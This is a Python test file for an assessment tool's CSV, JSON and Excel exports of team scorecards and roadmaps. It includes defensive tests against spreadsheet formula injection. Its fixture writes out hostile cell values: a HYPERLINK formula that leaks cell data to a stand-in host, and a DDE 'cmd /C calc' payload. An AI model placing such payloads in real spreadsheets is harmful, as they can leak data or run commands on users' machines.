"""Exports read back into the same scorecards and roadmaps they were made from."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest
from openpyxl import load_workbook

from assessments.reports import exports
from assessments.reports.charts import MetricSeries
from assessments.reports.context import TeamContext
from assessments.reports.roadmap import roadmap_build
from assessments.rubric.answers import capability_of, not_applicable_allowed
from assessments.rubric.scorecard import NotApplicable
from assessments.rubric.types import EvidenceResult
from assessments.scoring import score
from tests.assessments.reports.helpers import advice, rubric, scorecard
from tests.assessments.scoring.profiles import meeting


def _teams():
    out = []
    for name, met in (("acme/fraud", ["source_control"]), ("acme/search", [])):
        sc = scorecard(met)
        rm = roadmap_build(rubric=rubric(), scorecard=sc, advice=advice(), context=TeamContext())
        series = MetricSeries("deployment_frequency", "Deployments", "per week",
                              ((date(2026, 9, 7), 3.0), (date(2026, 9, 14), None)))  # fmt: skip
        out.append(exports.TeamExport(name, sc, rm, (series,)))
    return out


def test_the_scorecard_csv_has_a_row_per_team_and_capability_with_its_state():
    teams = _teams()
    rows = list(csv.DictReader(io.StringIO(exports.scorecard_csv(rubric(), teams))))
    assert len(rows) == 2 * len(rubric().capabilities)
    fraud = {r["capability"]: r for r in rows if r["team"] == "acme/fraud"}
    assert fraud["source_control"]["state"] == "met"
    assert fraud["lineage"]["state"] == teams[0].scorecard.capabilities["lineage"].state


def test_the_roadmap_csv_lists_open_items_in_order_with_the_advice_version():
    teams = _teams()
    rows = list(csv.DictReader(io.StringIO(exports.roadmap_csv(teams))))
    google = [r for r in rows if r["team"] == "acme/search" and r["framework"] == "google"]
    expected = [i.capability for i in teams[1].roadmap.frameworks[0].items]
    assert [r["capability"] for r in google] == expected
    assert google[0]["order"] == "1"
    assert {r["advice_version"] for r in rows} == {advice().version}


def test_the_json_export_carries_scorecards_roadmaps_and_metrics():
    data = json.loads(exports.report_json(_teams()))
    first = data["teams"][0]
    assert first["team"] == "acme/fraud"
    assert first["scorecard"]["capabilities"]["source_control"]["state"] == "met"
    assert first["roadmap"]["advice_version"] == advice().version
    assert first["metrics"][0]["points"] == [["2026-09-07", 3.0], ["2026-09-14", None]]


def test_the_workbook_has_the_four_sheets_managers_read():
    teams = _teams()
    wb = load_workbook(io.BytesIO(exports.workbook_xlsx(rubric(), teams)))
    assert wb.sheetnames == ["summary", "capabilities", "roadmap", "metrics"]
    summary = list(wb["summary"].iter_rows(values_only=True))
    assert summary[0][:4] == ("team", "framework", "claimed_level", "assessed_level")
    assert len(summary) == 1 + 2 * len(rubric().frameworks)
    capabilities = list(wb["capabilities"].iter_rows(values_only=True))
    assert len(capabilities) == 1 + 2 * len(rubric().capabilities)
    metrics = list(wb["metrics"].iter_rows(values_only=True))
    assert metrics[1] == ("acme/fraud", "deployment_frequency", "per week", "2026-09-07", 3)


# Spreadsheet formula injection: text a team controls (event ids, not-applicable
# justifications) must never run as a formula in a downloaded spreadsheet.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _hostile_teams(prefix: str) -> tuple[list[exports.TeamExport], str, str]:
    event_id = prefix + 'HYPERLINK("https://example.invalid/?d="&A2,"Open")'
    justification = prefix + 'cmd|" /C calc"!A0'
    r = rubric()
    # Every question of a practice answered "not applicable", so the reason is reported.
    allowed = {q for q in r.questions if not_applicable_allowed(q, capability_of(r, q))}
    cap = next(
        c.id for c in r.capabilities if {q for q in r.questions if q.capability == c.id} <= allowed
    )
    answers: dict[str, str | NotApplicable] = {**meeting(r, ["source_control"])}
    answers |= {q.id: NotApplicable(justification) for q in r.questions if q.capability == cap}
    evidence = {"source_control": EvidenceResult("met", (event_id, "evt-2"), "shown")}
    sc = score(r, [answers], evidence)
    rm = roadmap_build(rubric=r, scorecard=sc, advice=advice(), context=TeamContext())
    series = MetricSeries("change_failure_rate", "Change failure", "share",
                          ((date(2026, 9, 7), -0.5),))  # fmt: skip
    return [exports.TeamExport("acme/fraud", sc, rm, (series,))], event_id, justification


@pytest.mark.parametrize("prefix", FORMULA_STARTS)
def test_csv_exports_start_no_cell_with_a_formula_character(prefix):
    teams, event_id, justification = _hostile_teams(prefix)
    scorecard = exports.scorecard_csv(rubric(), teams)
    cells = [cell for row in csv.reader(io.StringIO(scorecard)) for cell in row]
    cells += [c for row in csv.reader(io.StringIO(exports.roadmap_csv(teams))) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    rows = {r["capability"]: r for r in csv.DictReader(io.StringIO(scorecard))}
    assert rows["source_control"]["events"] == f"'{event_id} evt-2"
    assert justification.strip() in "".join(cells)  # reasons are kept stripped


@pytest.mark.parametrize("prefix", FORMULA_STARTS)
def test_the_workbook_holds_user_text_as_text_and_numbers_as_numbers(prefix):
    teams, event_id, justification = _hostile_teams(prefix)
    wb = load_workbook(io.BytesIO(exports.workbook_xlsx(rubric(), teams)))
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    text = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in text if t.startswith(FORMULA_STARTS)]
    # XML reads a carriage return back as a line feed.
    assert f"'{event_id} evt-2".replace("\r", "\n") in text
    assert any(justification.strip() in t for t in text)
    metric = next(wb["metrics"].iter_rows(min_row=2))
    assert metric[4].value == -0.5
    assert metric[4].data_type == "n"


def test_text_that_looks_like_an_error_code_stays_text_in_the_workbook():
    teams, _, _ = _hostile_teams("")
    teams = [exports.TeamExport("#N/A", teams[0].scorecard, teams[0].roadmap)]
    wb = load_workbook(io.BytesIO(exports.workbook_xlsx(rubric(), teams)))
    assert wb["summary"]["A2"].value == "#N/A"
    assert wb["summary"]["A2"].data_type == "s"


def test_the_json_export_keeps_user_text_exactly_as_sent():
    # JSON is data, never run as a formula: it keeps ids exactly, for programs to match.
    teams, event_id, _ = _hostile_teams("=")
    data = json.loads(exports.report_json(teams))
    capability = data["teams"][0]["scorecard"]["capabilities"]["source_control"]
    assert capability["events"] == [event_id, "evt-2"]
